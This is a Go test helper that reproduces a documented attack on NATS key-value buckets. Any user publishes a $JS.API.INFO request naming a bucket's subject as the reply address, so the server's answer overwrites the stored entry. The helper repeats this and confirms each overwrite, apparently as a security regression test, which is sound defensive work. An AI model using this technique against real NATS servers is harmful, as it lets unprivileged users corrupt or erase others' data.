package testutil

import (
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/vmprep/vmprep/internal/stage"
)

// EraseByReply overwrites the key-value entry on subject ("$KV.<bucket>.<key>")
// n times as any user may: it calls $JS.API.INFO naming subject as the
// reply subject, and the bucket stores the server's answer like a put. It
// returns once observer (a user that may direct-get the key) sees all n
// stored. The attack of docs/security.md "Relays into key-value buckets".
func EraseByReply(tb testing.TB, attacker, observer *nats.Conn, subject string, n int) {
	tb.Helper()
	rest, ok := strings.CutPrefix(subject, "$KV.")
	bucket, _, ok2 := strings.Cut(rest, ".")
	if !ok || !ok2 {
		tb.Fatalf("EraseByReply: %q is not a key-value subject", subject)
	}
	last := func() uint64 {
		m, err := observer.Request("$JS.API.DIRECT.GET.KV_"+bucket+"."+subject, nil, 5*time.Second)
		if err != nil {
			tb.Fatalf("read %s: %v", subject, err)
		}
		if m.Header.Get("Status") == "404" {
			return 0
		}
		rev, err := stage.LastRevision(m.Header)
		if err != nil {
			tb.Fatalf("read %s: %v", subject, err)
		}
		return rev
	}
	// One at a time, each waited for: the server answers API calls
	// concurrently, and a later answer must not be taken for an earlier.
	for i := range n {
		before := last()
		if err := attacker.PublishRequest("$JS.API.INFO", subject, nil); err != nil {
			tb.Fatal(err)
		}
		if err := attacker.Flush(); err != nil {
			tb.Fatal(err)
		}
		deadline := time.Now().Add(30 * time.Second)
		for last() == before {
			if time.Now().After(deadline) {
				tb.Fatalf("EraseByReply: answer %d of %d never stored on %s: the attack did not run", i+1, n, subject)
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
}
